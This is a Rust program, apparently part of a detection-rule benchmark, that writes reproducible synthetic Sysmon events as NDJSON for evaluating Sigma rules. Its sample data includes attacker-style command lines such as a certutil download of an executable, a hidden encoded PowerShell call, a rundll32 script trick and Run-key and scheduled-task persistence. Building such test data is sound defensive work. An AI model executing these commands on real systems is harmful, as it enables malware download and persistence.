//! Writes the event sets of the Sigma evaluation benchmark as NDJSON, reproducibly.
//!
//! ```text
//! cargo run --release -p rulelab-bench --bin sigma-gen-events -- --out FILE
//!     [--kind mix|regression|combined] [--count N] [--seed S] [--shared DIR]
//! ```
//! - `regression`: the true-positive events of `<shared>/corpus/sigma/regression/*/events.jsonl`
//!   (folders in name order), cycled until `--count` lines are written.
//! - `mix`: synthetic Sysmon-shaped events from a seeded generator, every event with `EventID`,
//!   `Channel`, `Provider_Name`, `Computer` and `UtcTime`: ~40% process creation (1), 20%
//!   network connection (3), 20% registry (12/13), 15% file creation (11), 5% image load (7).
//!   The value pools and shares follow `shared/tools/sigma-bench/gen_events.py --mix`, so the
//!   numbers compare with the reference measurements made with it.
//! - `combined` (default): the mix with one event in four drawn from the regression events.
//!
//! The same `--seed` and `--count` always give the same file (SplitMix64, no platform RNG).

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;
use std::process::ExitCode;

use rulelab_bench::shared_dir;
use serde_json::{json, Map, Value};

/// SplitMix64: small, seeded, identical everywhere.
struct Rng(u64);

impl Rng {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n > 0`).
    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    /// A float in `[0, 1)`.
    fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items.get(self.below(items.len())).copied().unwrap_or("")
    }
}

const IMAGES: [&str; 8] = [
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\certutil.exe",
    r"C:\Program Files\App\app.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Users\bob\AppData\Local\Temp\x.exe",
];
const COMMAND_LINES: [&str; 8] = [
    "cmd /c whoami",
    "powershell -nop -w hidden -enc SQBFAFgA",
    r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication""#,
    "certutil -urlcache -split -f http://x/a.exe a.exe",
    "app.exe --update",
    r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y",
    r"schtasks /create /tn x /tr c:\x.exe /sc onlogon",
    "x.exe",
];
const REGISTRY_KEYS: [&str; 5] = [
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
    r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
    r"HKLM\System\CurrentControlSet\Services\svc\ImagePath",
    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Temp",
    r"HKLM\SOFTWARE\Policies\Microsoft\Windows\System\EnableSmartScreen",
];
const REGISTRY_DETAILS: [&str; 3] = [
    r"C:\Users\bob\AppData\Local\Temp\x.exe",
    "DWORD (0x00000000)",
    r"%%SystemRoot%%\system32\svchost.exe -k netsvcs",
];
const FILES: [&str; 6] = [
    r"C:\Users\bob\AppData\Local\Temp\a.ps1",
    r"C:\Windows\Temp\payload.dll",
    r"C:\Users\bob\Downloads\invoice.pdf",
    r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\x.lnk",
    r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Recent\doc.lnk",
    r"C:\Windows\System32\drivers\etc\hosts",
];
const DLLS: [&str; 5] = [
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\dbghelp.dll",
    r"C:\Windows\System32\vaultcli.dll",
    r"C:\Windows\System32\wininet.dll",
    r"C:\Users\bob\AppData\Local\Temp\version.dll",
];
const HOSTS: [(&str, u16, &str); 5] = [
    ("10.0.0.5", 445, "fileserver.corp.local"),
    ("93.184.216.34", 443, "example.com"),
    ("185.199.108.133", 443, "raw.githubusercontent.com"),
    ("10.0.0.1", 53, ""),
    ("198.51.100.7", 4444, ""),
];

/// One synthetic Sysmon event; `index` sets its time (one event per 10 ms from a fixed start).
fn sysmon_event(rng: &mut Rng, index: usize) -> Value {
    let k = rng.below(IMAGES.len());
    let image = IMAGES.get(k).copied().unwrap_or_default();
    let share = rng.unit();
    let mut event = Map::new();
    let (event_id, fields) = if share < 0.40 {
        let command_line = if rng.unit() < 0.3 {
            rng.pick(&COMMAND_LINES)
        } else {
            COMMAND_LINES.get(k).copied().unwrap_or_default()
        };
        let file_name = image.rsplit('\\').next().unwrap_or(image).to_uppercase();
        (
            1,
            json!({
                "Image": image, "CommandLine": command_line, "ParentImage": rng.pick(&IMAGES),
                "User": r"CORP\bob", "IntegrityLevel": "High", "OriginalFileName": file_name,
                "CurrentDirectory": r"C:\Windows\System32\", "Hashes": "SHA256=ABC",
            }),
        )
    } else if share < 0.60 {
        let (ip, port, host) = HOSTS
            .get(rng.below(HOSTS.len()))
            .copied()
            .unwrap_or_default();
        (
            3,
            json!({
                "Image": image, "User": r"CORP\bob", "Protocol": "tcp", "Initiated": "true",
                "SourceIp": "10.0.0.23", "SourcePort": 49152 + rng.below(16383),
                "DestinationIp": ip, "DestinationPort": port, "DestinationHostname": host,
                "DestinationIsIpv6": "false",
            }),
        )
    } else if share < 0.80 {
        let event_id = if rng.below(2) == 0 { 12 } else { 13 };
        let mut fields = json!({
            "EventType": if event_id == 13 { "SetValue" } else { "CreateKey" },
            "Image": image, "TargetObject": rng.pick(&REGISTRY_KEYS), "User": r"CORP\bob",
        });
        if event_id == 13 {
            if let Some(map) = fields.as_object_mut() {
                map.insert("Details".into(), rng.pick(&REGISTRY_DETAILS).into());
            }
        }
        (event_id, fields)
    } else if share < 0.95 {
        (
            11,
            json!({"Image": image, "TargetFilename": rng.pick(&FILES), "User": r"CORP\bob"}),
        )
    } else {
        (
            7,
            json!({
                "Image": image, "ImageLoaded": rng.pick(&DLLS), "Signed": "true",
                "Signature": "Microsoft Windows", "User": r"CORP\bob",
            }),
        )
    };
    let millis = index as u64 * 10;
    let time = format!(
        "2026-01-01 {:02}:{:02}:{:02}.{:03}",
        (millis / 3_600_000) % 24,
        (millis / 60_000) % 60,
        (millis / 1000) % 60,
        millis % 1000
    );
    event.insert("EventID".into(), event_id.into());
    event.insert(
        "Channel".into(),
        "Microsoft-Windows-Sysmon/Operational".into(),
    );
    event.insert("Provider_Name".into(), "Microsoft-Windows-Sysmon".into());
    event.insert("Computer".into(), "ws01.corp.local".into());
    event.insert("UtcTime".into(), time.into());
    if let Value::Object(fields) = fields {
        event.extend(fields);
    }
    Value::Object(event)
}

/// The regression events, one JSON text per event, in folder-name order.
fn regression_events(shared: &Path) -> Result<Vec<String>, String> {
    let root = shared.join("corpus/sigma/regression");
    let mut folders: Vec<_> = std::fs::read_dir(&root)
        .map_err(|e| format!("cannot read {}: {e}", root.display()))?
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .collect();
    folders.sort();
    let mut events = Vec::new();
    for folder in folders {
        let Ok(text) = std::fs::read_to_string(folder.join("events.jsonl")) else {
            continue;
        };
        events.extend(
            text.lines()
                .filter(|l| !l.trim().is_empty())
                .map(str::to_string),
        );
    }
    if events.is_empty() {
        return Err(format!("no events under {}", root.display()));
    }
    Ok(events)
}

fn main() -> ExitCode {
    let mut out = None;
    let mut kind = "combined".to_string();
    let mut count = 200_000usize;
    let mut seed = 1u64;
    let mut shared = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let value = args.next();
        match (arg.as_str(), value) {
            ("--out", Some(v)) => out = Some(v),
            ("--kind", Some(v)) => kind = v,
            ("--count", Some(v)) => count = v.parse().unwrap_or(count),
            ("--seed", Some(v)) => seed = v.parse().unwrap_or(seed),
            ("--shared", Some(v)) => shared = Some(v),
            _ => {
                eprintln!(
                    "usage: sigma-gen-events --out FILE [--kind mix|regression|combined] \
                     [--count N] [--seed S] [--shared DIR]"
                );
                return ExitCode::from(2);
            }
        }
    }
    if !matches!(kind.as_str(), "mix" | "regression" | "combined") {
        eprintln!("sigma-gen-events: --kind takes mix, regression or combined");
        return ExitCode::from(2);
    }
    let Some(out) = out else {
        eprintln!("sigma-gen-events: --out FILE is required");
        return ExitCode::from(2);
    };
    let regression = if kind == "mix" {
        Vec::new()
    } else {
        match regression_events(&shared_dir(shared.as_deref())) {
            Ok(events) => events,
            Err(message) => {
                eprintln!("sigma-gen-events: {message} (pass --shared or set RULELAB_SHARED)");
                return ExitCode::from(2);
            }
        }
    };
    let mut rng = Rng(seed);
    let written = (|| -> std::io::Result<()> {
        let mut file = BufWriter::new(File::create(&out)?);
        let mut next_regression = 0usize;
        for index in 0..count {
            let take_regression = match kind.as_str() {
                "regression" => true,
                "mix" => false,
                _ => rng.below(4) == 0,
            };
            if take_regression {
                if let Some(line) = regression.get(next_regression % regression.len().max(1)) {
                    file.write_all(line.as_bytes())?;
                }
                next_regression += 1;
            } else {
                serde_json::to_writer(&mut file, &sysmon_event(&mut rng, index))?;
            }
            file.write_all(b"\n")?;
        }
        file.flush()
    })();
    if let Err(e) = written {
        eprintln!("sigma-gen-events: {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!(
        "sigma-gen-events: {count} {kind} events (seed {seed}, {} distinct regression events) -> {out}",
        regression.len()
    );
    ExitCode::SUCCESS
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_events() {
        let first: Vec<Value> = {
            let mut rng = Rng(7);
            (0..50).map(|i| sysmon_event(&mut rng, i)).collect()
        };
        let mut rng = Rng(7);
        let again: Vec<Value> = (0..50).map(|i| sysmon_event(&mut rng, i)).collect();
        assert_eq!(first, again);
        let mut other = Rng(8);
        assert_ne!(first.first(), Some(&sysmon_event(&mut other, 0)));
    }

    #[test]
    fn every_event_carries_the_sysmon_system_fields() {
        let mut rng = Rng(1);
        for i in 0..200 {
            let event = sysmon_event(&mut rng, i);
            assert_eq!(event["Channel"], "Microsoft-Windows-Sysmon/Operational");
            assert!(matches!(
                event["EventID"].as_u64(),
                Some(1 | 3 | 7 | 11 | 12 | 13)
            ));
            assert!(event["Image"].is_string());
        }
    }
}
